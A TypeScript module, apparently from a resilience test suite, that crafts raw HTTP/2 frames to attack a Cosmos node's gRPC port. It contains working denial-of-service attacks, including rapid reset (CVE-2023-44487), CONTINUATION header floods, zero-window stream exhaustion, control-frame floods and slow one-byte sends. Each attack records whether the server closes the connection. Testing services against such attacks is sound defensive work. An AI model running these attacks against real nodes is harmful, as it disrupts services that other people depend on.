/** Attacks on the gRPC port with frames by hand: lies about lengths, resets, endless headers, closed windows, floods. */
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Assault, type Attack, isOver, pump, scaled, untilEnd } from '../attack.ts'
import {
  CANCEL,
  END_HEADERS,
  END_STREAM,
  fields,
  FRAME,
  frame,
  grpcFields,
  grpcMessage,
  hello,
  SETTING,
  settings,
  WIDE_WINDOW,
} from '../http2.ts'
import { connectTo, untilDrained } from '../wire.ts'

const BALANCE = '/cosmos.bank.v1beta1.Query/Balance'
const VALIDATORS = '/cosmos.staking.v1beta1.Query/Validators'
const LATEST_BLOCK = '/cosmos.base.tendermint.v1beta1.Service/GetLatestBlock'
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
const NOTHING = Buffer.alloc(0)

const openCall = (path: string, stream = 1): Buffer =>
  frame({ type: FRAME.headers, flags: END_HEADERS, stream }, grpcFields(path))

/** One connection after the other: writes what `next` gives until the node closes it or the time is over. */
const writeOn = async (assault: Assault, first: Buffer, next: () => Buffer, reads = true): Promise<void> => {
  const { target, tally } = assault
  while (!isOver(assault)) {
    const socket = await connectTo(target.grpc)
    if (socket === undefined) {
      tally.add('not connected')
      await sleep(50)
      continue
    }
    if (reads) socket.resume()
    else socket.pause()
    let isClosed = false
    socket.once('close', () => {
      isClosed = true
      tally.add('closed by server')
    })
    socket.write(first)
    while (!isClosed && !isOver(assault)) {
      if (!socket.write(next())) await untilDrained(socket, 200)
      tally.add('written')
      await sleep(0)
    }
    socket.removeAllListeners('close').destroy()
  }
}

const many = (assault: Assault, count: number, work: (index: number) => Promise<void>): Promise<unknown> =>
  Promise.all(Array.from({ length: Math.max(2, scaled(assault, count)) }, (_, index) => work(index)))

/** Announces 4 GiB, and less than the limit, of which some is sent and the rest never. */
const announceMuch = async (assault: Assault): Promise<void> => {
  await pump(assault, { count: Math.max(20, scaled(assault, 2_000)), width: 16 }, async (index) => {
    const socket = await connectTo(assault.target.grpc)
    if (socket === undefined) return assault.tally.add('not connected')
    socket.resume()
    const part = Buffer.alloc(16_384)
    part.writeUInt32BE(index % 2 === 0 ? 900_000 : 0xff_ff_ff_ff, 1)
    const data = frame({ type: FRAME.data, stream: 1 }, part)
    socket.write(Buffer.concat([hello(), openCall(BALANCE), data, data, data, data]))
    await sleep(100)
    assault.tally.add(socket.destroyed ? 'closed by server' : 'written')
    return socket.destroy()
  })
}

/** CVE-2023-44487: streams that are opened, asked and reset. */
const resetRapidly = async (assault: Assault): Promise<void> => {
  await many(assault, 16, async () => {
    let stream = 1
    const first = hello()
    const next = (): Buffer => {
      const parts: Buffer[] = []
      for (let index = 0; index < 100; index++, stream += 2) {
        const question = frame({ type: FRAME.data, flags: END_STREAM, stream }, grpcMessage(NOTHING))
        parts.push(openCall(VALIDATORS, stream), question, frame({ type: FRAME.reset, stream }, CANCEL))
      }
      return Buffer.concat(parts)
    }
    await writeOn(assault, first, next)
  })
}

const neverEndHeaders = async (assault: Assault): Promise<void> => {
  const entries = Array.from({ length: 100 }, (_, index) => [`x-${index}`, 'v'.repeat(100)] as const)
  const more = frame({ type: FRAME.continuation, stream: 1 }, fields(entries).subarray(0, 10_000))
  const first = Buffer.concat([hello(), frame({ type: FRAME.headers, stream: 1 }, grpcFields('/x'))])
  await many(assault, 16, () => writeOn(assault, first, () => more))
}

/** Answers that may not be sent: the window of each stream is closed. */
const closeWindows = async (assault: Assault): Promise<void> => {
  const { target, tally } = assault
  const sockets: Socket[] = []
  await pump(assault, { count: Math.max(2, scaled(assault, 100)), width: 1 }, async (index) => {
    const socket = await connectTo(target.grpc)
    if (socket === undefined) return tally.add('not connected')
    socket.resume().once('close', () => tally.add('closed by server'))
    const isReflection = index % 2 === 1
    const message = grpcMessage(isReflection ? Buffer.from([0x3a, 1, 0x2a]) : NOTHING)
    const parts = [hello([[SETTING.initialWindowSize, 0]])]
    for (let stream = 1; stream < 200; stream += 2) {
      parts.push(openCall(isReflection ? REFLECTION : LATEST_BLOCK, stream))
      parts.push(frame({ type: FRAME.data, flags: isReflection ? 0 : END_STREAM, stream }, message))
    }
    socket.write(Buffer.concat(parts))
    tally.add('written')
    return sockets.push(socket)
  })
  await untilEnd(assault)
  for (const socket of sockets) socket.removeAllListeners('close').destroy()
}

const floodFrames = async (assault: Assault): Promise<void> => {
  const ping = frame({ type: FRAME.ping }, Buffer.alloc(8))
  const kinds = [ping, settings([[SETTING.headerTableSize, 4_096]]), frame({ type: FRAME.data, stream: 1 })]
  const first = Buffer.concat([hello(), openCall(BALANCE)])
  await many(assault, 9, async (index) => {
    const frames = Buffer.concat(Array.from({ length: 500 }, () => kinds[index % kinds.length] ?? ping))
    await writeOn(assault, first, () => frames, index % 2 === 1)
  })
}

/** `file_containing_symbol`, a hundred times in each frame. */
const askForEver = async (assault: Assault): Promise<void> => {
  const name = Buffer.from('cosmos.gov.v1.Query')
  const question = grpcMessage(Buffer.concat([Buffer.from([0x22, name.length]), name]))
  const questions = Buffer.concat(Array.from({ length: 100 }, () => question))
  const window = frame({ type: FRAME.windowUpdate }, WIDE_WINDOW)
  const first = Buffer.concat([hello([[SETTING.initialWindowSize, 0x7f_ff_ff_ff]]), window, openCall(REFLECTION)])
  const next = frame({ type: FRAME.data, stream: 1 }, questions)
  await many(assault, 8, () => writeOn(assault, first, () => next))
}

/** Messages that are announced, and come a byte a frame. */
const sendBytes = async (assault: Assault): Promise<void> => {
  const announced = Buffer.from([0, 0, 0, 0x40, 0])
  const first = [hello()]
  const bytes: Buffer[] = []
  for (let stream = 1; stream < 180; stream += 2) {
    first.push(openCall(VALIDATORS, stream), frame({ type: FRAME.data, stream }, announced))
    bytes.push(frame({ type: FRAME.data, stream }, Buffer.from([1])))
  }
  const next = Buffer.concat(Array.from({ length: 40 }, () => bytes).flat())
  await many(assault, 8, () => writeOn(assault, Buffer.concat(first), () => next))
}

/** Answers wait for a window that is opened a byte at a time. */
const openWindows = async (assault: Assault): Promise<void> => {
  const first = [hello([[SETTING.initialWindowSize, 0]])]
  const updates: Buffer[] = []
  for (let stream = 1; stream < 199; stream += 2) {
    first.push(openCall(LATEST_BLOCK, stream))
    first.push(frame({ type: FRAME.data, flags: END_STREAM, stream }, grpcMessage(NOTHING)))
    updates.push(frame({ type: FRAME.windowUpdate, stream }, Buffer.from([0, 0, 0, 1])))
  }
  const next = Buffer.concat(Array.from({ length: 20 }, () => updates).flat())
  await many(assault, 8, () => writeOn(assault, Buffer.concat(first), () => next))
}

const OUTCOMES = /^(written|closed by server|not connected)$/

export const GRPC_ATTACKS: readonly Attack[] = [
  {
    name: 'gRPC messages over the limit',
    seconds: 8,
    bounded: 'bytes of a message',
    outcomes: OUTCOMES,
    run: announceMuch,
  },
  {
    name: 'gRPC rapid reset',
    seconds: 10,
    bounded: 'calls that a connection has reset, and what is computed for them',
    outcomes: OUTCOMES,
    run: resetRapidly,
  },
  {
    name: 'gRPC header bombs (CONTINUATION flood)',
    seconds: 10,
    bounded: 'bytes of headers',
    outcomes: OUTCOMES,
    refusal: /^closed by server$/,
    run: neverEndHeaders,
  },
  {
    name: 'gRPC 10,000 streams, zero window',
    seconds: 12,
    bounded: 'streams of a connection and of a client, bytes that are unsent',
    outcomes: OUTCOMES,
    run: closeWindows,
  },
  {
    name: 'gRPC ping, settings and empty-frame floods',
    seconds: 8,
    bounded: 'frames of control that wait for their answer',
    outcomes: OUTCOMES,
    run: floodFrames,
  },
  {
    name: 'gRPC messages of one byte a frame',
    seconds: 8,
    bounded: 'small frames of a connection, and the next connections of its client',
    outcomes: OUTCOMES,
    refusal: /^closed by server$/,
    run: sendBytes,
  },
  {
    name: 'gRPC window updates of one byte',
    seconds: 8,
    bounded: 'bytes of a connection that are no message, and the next connections of its client',
    outcomes: OUTCOMES,
    refusal: /^closed by server$/,
    run: openWindows,
  },
  {
    name: 'gRPC reflection stream, asked for ever',
    seconds: 8,
    bounded: 'questions of a stream that are answered at once',
    outcomes: OUTCOMES,
    run: askForEver,
  },
]
